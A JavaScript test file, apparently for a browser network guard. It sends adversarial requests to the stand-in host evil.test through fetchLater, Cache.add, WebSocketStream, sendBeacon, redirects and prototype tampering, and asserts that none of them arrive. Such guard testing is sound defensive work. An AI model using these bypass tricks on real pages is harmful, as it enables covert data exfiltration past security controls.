// Requests past the guard: sinks it might not know, objects that lie about themselves, tampered
// prototypes, URL parser tricks, redirects, beacons and pings. Each test asserts on what reached
// the loopback servers (`served`, `servedRequests`), never on what a promise in the page says.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { OPTIONS, PAGE_CSP, PAGE_HELPERS, assertNothingLeaked, servedRequests, useBrowser, waitForServed } from './helpers.mjs';

const session = useBrowser();
const open = (afterInstall = '') => session.browser.open({ options: OPTIONS, csp: PAGE_CSP, afterInstall: PAGE_HELPERS + afterInstall });

test('request sinks beyond fetch and XHR (fetchLater, Cache.add/addAll, WebSocketStream), in the widget and a fresh frame: refused like fetch and WebSocket (guard)', async () => {
  const page = await open();
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    const evil = (name) => `https://evil.test/adv-sinks/${name}`;
    const cache = await caches.open('adversarial');
    const frameCache = await frame.caches.open('adversarial');
    const outcome = async (fn) => ((await attempt(fn)).error ?? 'sent');
    return {
      fetchLater: await outcome(() => fetchLater(evil('later'), { activateAfter: 0 })),
      fetchLaterFromFrame: await outcome(() => frame.fetchLater(evil('frame-later'), { activateAfter: 0 })),
      add: await outcome(() => cache.add(evil('add'))),
      addAll: await outcome(() => cache.addAll(['https://api.test/v1/adv-sinks/add-all-ok', evil('add-all')])),
      addFromFrame: await outcome(() => frameCache.add(evil('frame-add'))),
      addRedirect: await outcome(() => cache.add('https://api.test/v1/redirect?to=https://evil.test/adv-sinks/add-redirect')),
      stream: await outcome(() => new WebSocketStream('wss://evil.test/adv-sinks/stream')),
      streamFromFrame: await outcome(() => new frame.WebSocketStream('https://evil.test/adv-sinks/frame-stream')),
      // Positive controls: the same sinks reach listed endpoints.
      allowed: [
        await outcome(() => fetchLater('https://api.test/v1/adv-sinks/later-ok', { activateAfter: 0 })),
        await outcome(() => cache.add('https://api.test/v1/adv-sinks/add-ok')),
        await outcome(() => new WebSocketStream('wss://live.test/adv-sinks/stream-ok')),
      ],
    };
  });
  for (const marker of ['api.test/v1/adv-sinks/later-ok', 'api.test/v1/adv-sinks/add-ok', 'live.test/adv-sinks/stream-ok']) await waitForServed(marker);
  assertNothingLeaked('adv-sinks', ['add-all-ok']); // addAll is all or nothing: its listed request was not sent either
  assert.deepEqual(outcomes, {
    fetchLater: 'TypeError', fetchLaterFromFrame: 'TypeError', add: 'TypeError', addAll: 'TypeError', addFromFrame: 'TypeError',
    addRedirect: 'TypeError', stream: 'SecurityError', streamFromFrame: 'SecurityError', allowed: ['sent', 'sent', 'sent'],
  });
  await page.close();
});

test("prototype tampering (Object.prototype members the guard's own Request init would inherit, Symbol.hasInstance on Request and URL, URL and Request getters, Function.prototype.call/apply, Reflect.apply): what is sent is what was decided (guard)", async () => {
  const page = await open(`
    const lie = () => { throw new Error('replaced intrinsic called'); };
    // Request init members the browser reads from any dictionary, inherited ones included.
    Object.assign(Object.prototype, { method: 'DELETE', redirect: 'follow', headers: { 'x-smuggled': '1' } });
    for (const C of [Request, URL, Response]) Object.defineProperty(C, Symbol.hasInstance, { value: () => true });
    Object.defineProperty(URL.prototype, 'href', { get: () => 'https://api.test/v1/adv-proto/lie' });
    Object.defineProperty(Request.prototype, 'url', { get: () => 'https://api.test/v1/adv-proto/lie' });
    Object.defineProperty(Request.prototype, 'method', { get: () => 'GET' });
    Function.prototype.call = Function.prototype.apply = Reflect.apply = lie;`);
  await page.evaluate(async () => {
    await guardReady;
    const settle = (promise) => new Promise((resolve) => promise.then(resolve, resolve));
    await settle(fetch('https://api.test/v1/adv-proto/plain'));
    await settle(fetch(new URL('https://evil.test/adv-proto/url-object')));
    await settle(fetch(new Request('https://evil.test/adv-proto/request', { method: 'PUT' })));
    await settle(fetch({ toString: () => 'https://evil.test/adv-proto/to-string' }));
    try { new WebSocket(new URL('wss://evil.test/adv-proto/socket')); } catch (_) {}
    navigator.sendBeacon(new URL('https://evil.test/adv-proto/beacon'));
  });
  // The allowed request reached the server as a GET with the URL it was decided on; the
  // polluted init's DELETE did not ride along, and nothing reached the unlisted origin.
  await waitForServed('api.test/v1/adv-proto/plain');
  assert.deepEqual(servedRequests.filter((r) => r.path.includes('adv-proto')).map((r) => `${r.method} ${r.host}${r.path}`), ['GET api.test/v1/adv-proto/plain']);
  assertNothingLeaked('adv-proto', ['/lie']);
  await page.close();
});
